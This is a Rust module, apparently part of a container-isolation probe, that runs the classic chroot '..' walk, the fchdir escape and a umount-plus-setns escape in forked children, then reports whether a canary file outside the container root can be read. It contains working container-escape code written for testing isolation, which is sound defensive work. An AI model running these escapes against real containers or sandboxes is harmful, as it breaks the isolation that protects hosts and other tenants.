//! The classic chroot escape, tried for real.
//!
//! `chroot` changes only the root directory, not the working directory, and `..` stops at the
//! root only when the walk passes through it. So a root process that chroots into a
//! subdirectory while its working directory (or a held directory fd) stays outside can walk
//! `..` up to the real root of its mount namespace. After `pivot_root` with the old root
//! detached, that real root *is* the container's root, and the walk reaches nothing.
//!
//! A root moved over the old one instead (MS_MOVE + chroot, `--no-pivot`) defeats the `..`
//! walk, but the old root is still mounted underneath: detaching the covering mount and
//! re-entering the mount namespace reaches it (`umount-setns`).
//!
//! Each attempt runs in a forked child, because a successful one changes the root of the
//! process that made it.

use crate::observation::{EscapeAttempt, EscapeEnd, EscapeReport};
use nix::sys::wait::waitpid;
use nix::unistd::{chdir, chroot, fchdir, fork, ForkResult};
use std::fs;
use std::io::{Read, Write};
use std::os::fd::AsFd;

/// Longest canary prefix reported: the harness only compares a short token.
const MAX_READ: usize = 256;
/// More `..` steps than any real path is deep.
const DOTDOT_STEPS: usize = 64;

pub fn attempt_escapes(canary: &str) -> EscapeReport {
    let attempts = vec![
        EscapeAttempt {
            method: "direct-open".into(),
            end: read_canary(canary),
        },
        EscapeAttempt {
            method: "chroot-dotdot".into(),
            end: in_child(|| escape_dotdot(canary)),
        },
        EscapeAttempt {
            method: "chroot-fchdir".into(),
            end: in_child(|| escape_fchdir(canary)),
        },
        EscapeAttempt {
            method: "umount-setns".into(),
            end: in_child(|| escape_umount_setns(canary)),
        },
    ];
    EscapeReport {
        canary_path: canary.to_string(),
        attempts,
    }
}

/// The canary as read at `path`, or the refusal of its opening: wherever the attempt led, a
/// path that does not open there is what blocking it looks like.
fn read_canary(path: &str) -> EscapeEnd {
    let mut buf = Vec::new();
    match fs::File::open(path).and_then(|f| f.take(MAX_READ as u64).read_to_end(&mut buf)) {
        Ok(_) => EscapeEnd::Read(String::from_utf8_lossy(&buf).into_owned()),
        Err(e) => EscapeEnd::Blocked(format!("open {path}: {e}")),
    }
}

/// Where an escape attempt stopped; its text is what the report shows. A refused system call
/// is the container blocking the attempt; a failed open of what every root has (`/`,
/// `/proc/self/ns/mnt`) or a missing directory keeps the attempt from being made at all.
#[derive(Debug, thiserror::Error)]
enum Stop {
    #[error("{step}: {errno}")]
    Call {
        step: String,
        errno: nix::errno::Errno,
    },
    #[error("{step}: {error}")]
    Io { step: String, error: std::io::Error },
    #[error("no directory below / to chroot into")]
    NoInnerDir,
}

impl Stop {
    fn end(self) -> EscapeEnd {
        match self {
            Stop::Call { .. } => EscapeEnd::Blocked(self.to_string()),
            Stop::Io { .. } | Stop::NoInnerDir => EscapeEnd::NotMade(self.to_string()),
        }
    }
}

fn call(step: impl Into<String>) -> impl FnOnce(nix::errno::Errno) -> Stop {
    move |errno| Stop::Call {
        step: step.into(),
        errno,
    }
}

fn io(step: impl Into<String>) -> impl FnOnce(std::io::Error) -> Stop {
    move |error| Stop::Io {
        step: step.into(),
        error,
    }
}

/// A directory below the root to chroot into; any existing one will do, and the agent must
/// not need to create one (the rootfs may be read-only).
fn inner_dir() -> Result<&'static str, Stop> {
    ["/proc", "/tmp", "/dev", "/sys", "/etc"]
        .into_iter()
        .find(|d| fs::metadata(d).map(|m| m.is_dir()).unwrap_or(false))
        .ok_or(Stop::NoInnerDir)
}

fn walk_up_and_chroot() -> Result<(), Stop> {
    for _ in 0..DOTDOT_STEPS {
        chdir("..").map_err(call("chdir .."))?;
    }
    chroot(".").map_err(call("chroot ."))
}

/// The canary as read after `attempt` succeeded, or where the attempt stopped.
fn then_read(attempt: Result<(), Stop>, canary: &str) -> EscapeEnd {
    match attempt {
        Ok(()) => read_canary(canary),
        Err(e) => e.end(),
    }
}

fn escape_dotdot(canary: &str) -> EscapeEnd {
    let run = || -> Result<(), Stop> {
        let dir = inner_dir()?;
        // The working directory stays at the old root, outside the new one.
        chroot(dir).map_err(call(format!("chroot {dir}")))?;
        walk_up_and_chroot()
    };
    then_read(run(), canary)
}

fn escape_fchdir(canary: &str) -> EscapeEnd {
    let run = || -> Result<(), Stop> {
        let outside = fs::File::open("/").map_err(io("open /"))?;
        let dir = inner_dir()?;
        chroot(dir).map_err(call(format!("chroot {dir}")))?;
        chdir("/").map_err(call("chdir /"))?;
        // Back out through the fd held from before the chroot.
        fchdir(outside.as_fd()).map_err(call("fchdir"))?;
        walk_up_and_chroot()
    };
    then_read(run(), canary)
}

/// The escape from a root that was moved over the old one (MS_MOVE + chroot, as runtimes do
/// with `--no-pivot`): the old root is still mounted underneath. Detaching the covering mount
/// and re-entering the mount namespace (setns resets the root to the namespace's root) lands
/// on it. A pivoted root has no parent mount, so the detach is refused. It runs in a copy of
/// the mount namespace so that the agent's own stays intact.
fn escape_umount_setns(canary: &str) -> EscapeEnd {
    use nix::mount::{umount2, MntFlags};
    use nix::sched::{setns, unshare, CloneFlags};
    let run = || -> Result<(), Stop> {
        unshare(CloneFlags::CLONE_NEWNS).map_err(call("unshare(CLONE_NEWNS)"))?;
        let ns = fs::File::open("/proc/self/ns/mnt").map_err(io("open /proc/self/ns/mnt"))?;
        umount2("/", MntFlags::MNT_DETACH).map_err(call("umount2(/, MNT_DETACH)"))?;
        setns(ns.as_fd(), CloneFlags::CLONE_NEWNS).map_err(call("setns(mnt)"))
    };
    then_read(run(), canary)
}

/// The canary read from the root of the agent's own mount namespace: re-entering the namespace
/// (setns resets the root to the namespace's root, and to what is mounted on top of it) lands
/// where a pivoted root stands, but below a chroot it lands on the old root, still mounted.
/// It tells a chroot into a mount point (a view of a user's image) from a pivot_root, which the
/// mount table alone cannot. Unlike `umount-setns` nothing is detached first, so a root moved
/// over the old one (`--no-pivot`) is landed on, not passed.
pub fn read_at_namespace_root(canary: &str) -> EscapeEnd {
    use nix::sched::{setns, CloneFlags};
    in_child(|| {
        let run = || -> Result<(), Stop> {
            let ns = fs::File::open("/proc/self/ns/mnt").map_err(io("open /proc/self/ns/mnt"))?;
            setns(ns.as_fd(), CloneFlags::CLONE_NEWNS).map_err(call("setns(mnt)"))
        };
        then_read(run(), canary)
    })
}

/// Runs `f` in a forked child and brings its result back over a pipe as JSON. A child that
/// reports nothing made no attempt anyone saw: that is not a block.
fn in_child(f: impl FnOnce() -> EscapeEnd) -> EscapeEnd {
    let (r, w) = match nix::unistd::pipe() {
        Ok(p) => p,
        Err(e) => return EscapeEnd::NotMade(format!("pipe: {e}")),
    };
    // SAFETY: the agent is single-threaded, so the child may use the allocator freely.
    match unsafe { fork() } {
        Err(e) => EscapeEnd::NotMade(format!("fork: {e}")),
        Ok(ForkResult::Child) => {
            drop(r);
            let result = f();
            let mut out = fs::File::from(w);
            let _ = out.write_all(
                serde_json::to_string(&result)
                    .unwrap_or_default()
                    .as_bytes(),
            );
            drop(out);
            // Skip destructors and atexit handlers that belong to the parent.
            unsafe { libc::_exit(0) }
        }
        Ok(ForkResult::Parent { child }) => {
            drop(w);
            let mut text = String::new();
            let _ = fs::File::from(r).read_to_string(&mut text);
            let _ = waitpid(child, None);
            serde_json::from_str(&text).unwrap_or_else(|_| {
                EscapeEnd::NotMade(format!("escape child reported nothing: `{text}`"))
            })
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_child_that_reports_nothing_made_no_attempt() {
        // SAFETY: the child leaves at once, touching nothing the test runner's threads hold.
        let end = in_child(|| unsafe { libc::_exit(3) });
        assert!(
            matches!(&end, EscapeEnd::NotMade(t) if t.contains("reported nothing")),
            "{end:?}"
        );
    }

    #[test]
    fn a_refusal_is_a_block_and_a_missing_start_is_no_attempt() {
        let refused = Stop::Call {
            step: "chroot .".into(),
            errno: nix::errno::Errno::EPERM,
        };
        assert_eq!(
            refused.end(),
            EscapeEnd::Blocked("chroot .: EPERM: Operation not permitted".into())
        );
        assert!(matches!(Stop::NoInnerDir.end(), EscapeEnd::NotMade(_)));
        let missing = read_canary("/nonexistent/isoprobe-canary");
        assert!(matches!(missing, EscapeEnd::Blocked(_)), "{missing:?}");
    }
}
